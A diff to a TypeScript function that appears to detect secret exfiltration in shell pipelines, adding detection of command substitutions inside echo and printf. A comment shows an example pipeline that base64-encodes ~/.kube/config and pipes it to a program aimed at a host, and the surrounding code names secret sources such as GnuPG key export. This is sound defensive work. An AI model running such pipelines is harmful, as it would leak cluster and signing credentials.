@@ -463,6 +463,18 @@ function sourceOf(command: PipelineCommand, flows = false): string | null {
   if (name === 'set' && argv.length === 1) return 'every shell variable (set)';
   if ((name === 'export' || name === 'declare' || name === 'typeset') && onlyOptions(argv)) return `every shell variable (${name})`;
   if ((name === 'gpg' || name === 'gpg2') && exportsSecretKeys(argv)) return 'GnuPG secret keys';
+  // echo and printf print their words: a substitution in them prints what its command prints
+  // (`echo "{\"k\":\"$(base64 -w0 ~/.kube/config)\"}" | frob --host H`).
+  if (name === 'echo' || name === 'printf') {
+    for (const word of argv.slice(1)) {
+      if (!word.raw.includes('$(') && !word.raw.includes('`')) continue;
+      for (const inner of readTextCommands(word.raw, place.home).slice(0, MAX_UNPLACED_INNER)) {
+        const shape = { record: argvRecord(inner.argv, inner.redirects), redirects: inner.redirects, pipedFrom: -1, place };
+        const printed = printedSecret(shape.record) ?? sourceOf(shape, flows);
+        if (printed !== null) return printed;
+      }
+    }
+  }
   if (NOT_READERS.has(name)) return null;
   if (Object.prototype.hasOwnProperty.call(SINKS, name)) return credentialIn(sentWords(SINKS[name]!, argv.slice(1)), 0, place, true);
   // An upload program sends the words its upload forms name; its other words (a key it signs
